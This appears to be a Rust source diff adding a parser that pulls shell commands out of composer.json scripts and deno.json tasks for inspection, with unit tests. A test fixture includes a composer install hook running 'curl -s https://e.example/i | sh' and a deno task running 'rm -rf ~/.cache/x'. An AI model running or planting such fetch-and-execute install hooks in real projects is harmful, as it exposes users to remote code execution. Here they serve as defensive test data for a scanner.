@@ -69,6 +69,7 @@ pub(super) fn commands(language: Language, text: &str) -> Vec<ConfigCommand> {
         Language::CargoConfig => Some(cargo_config(text)),
         Language::Taskfile => yaml(text).map(|d| taskfile(&d, text)),
         Language::Justfile => Some(justfile(text)),
+        Language::TaskManifest => task_manifest(text),
         Language::CMake => Some(cmake(text)),
         Language::Maven => Some(maven(text)),
         _ => None,
@@ -1057,6 +1058,68 @@ fn lines_as_commands(body: &[(usize, &str)], out: &mut Vec<ConfigCommand>) {
 }
 
 // ---------------------------------------------------------------------------------------------
+// Task manifests: composer.json scripts, deno.json tasks
+
+/// The shell commands of a manifest's named tasks: composer's `scripts` (a string or a list;
+/// `@php F` and `@composer X` are those programs, `@other` a reference and a
+/// `Class::method` callback PHP code, not shell), deno's `tasks` (a string or `{command}`).
+/// Every task counts, whichever is named: they call one another, and install and update
+/// events run theirs unasked.
+fn task_manifest(text: &str) -> Option<Vec<ConfigCommand>> {
+    // deno.jsonc may hold comments: whole-line ones are dropped (an inline one fails the
+    // parse, and no command is read).
+    let parsed = serde_json::from_str::<serde_json::Value>(text).or_else(|_| {
+        let kept: Vec<&str> = text
+            .lines()
+            .filter(|l| !l.trim_start().starts_with("//"))
+            .collect();
+        serde_json::from_str(&kept.join("\n"))
+    });
+    let value = parsed.ok()?;
+    let mut out = Vec::new();
+    for key in ["scripts", "tasks"] {
+        let Some(tasks) = value.get(key).and_then(|t| t.as_object()) else {
+            continue;
+        };
+        for (name, task) in tasks {
+            let lines: Vec<&str> = match task {
+                serde_json::Value::String(s) => vec![s.as_str()],
+                serde_json::Value::Array(items) => {
+                    items.iter().filter_map(|i| i.as_str()).collect()
+                }
+                serde_json::Value::Object(o) => o
+                    .get("command")
+                    .and_then(|c| c.as_str())
+                    .into_iter()
+                    .collect(),
+                _ => Vec::new(),
+            };
+            for line in lines {
+                let command = match line.strip_prefix('@') {
+                    Some(rest) if rest.starts_with("php ") || rest.starts_with("composer ") => {
+                        rest.to_string()
+                    }
+                    Some(_) => continue,
+                    None if !line.contains(char::is_whitespace) && line.contains("::") => {
+                        continue;
+                    }
+                    None => line.to_string(),
+                };
+                out.push(ConfigCommand {
+                    line: line_of(text, &format!("\"{name}\"")),
+                    section: Some(name.clone()),
+                    command,
+                });
+                if out.len() >= MAX_COMMANDS {
+                    return Some(out);
+                }
+            }
+        }
+    }
+    Some(out)
+}
+
+// ---------------------------------------------------------------------------------------------
 // Notebooks
 
 struct Notebook {
@@ -1822,6 +1885,33 @@ mod tests {
             crate::scan::detect(std::path::Path::new("/p/ci.just"), ""),
             Language::Justfile
         );
+    }
+
+    #[test]
+    fn task_manifests_composer_scripts_and_deno_tasks() {
+        let composer = r#"{"name": "a/b", "scripts": {
+  "post-install-cmd": ["@php artisan key:generate", "curl -s https://e.example/i | sh"],
+  "test": "phpunit --colors",
+  "lint": ["@composer validate", "@test"],
+  "setup": "App\\Setup::run"
+}}"#;
+        assert_eq!(
+            lines(Language::TaskManifest, composer),
+            [
+                "php artisan key:generate",
+                "curl -s https://e.example/i | sh",
+                "phpunit --colors",
+                "composer validate",
+            ]
+        );
+        assert_eq!(commands(Language::TaskManifest, composer)[1].line, Some(2));
+        let deno = "{\n  // the tasks\n  \"tasks\": {\n    \"dev\": \"deno run -A main.ts\",\n    \"setup\": {\"command\": \"rm -rf ~/.cache/x\", \"dependencies\": [\"dev\"]}\n  }\n}\n";
+        assert_eq!(
+            lines(Language::TaskManifest, deno),
+            ["deno run -A main.ts", "rm -rf ~/.cache/x"]
+        );
+        assert_eq!(commands(Language::TaskManifest, deno)[1].line, Some(5));
+        assert!(lines(Language::TaskManifest, "{not json").is_empty());
     }
 
     #[test]
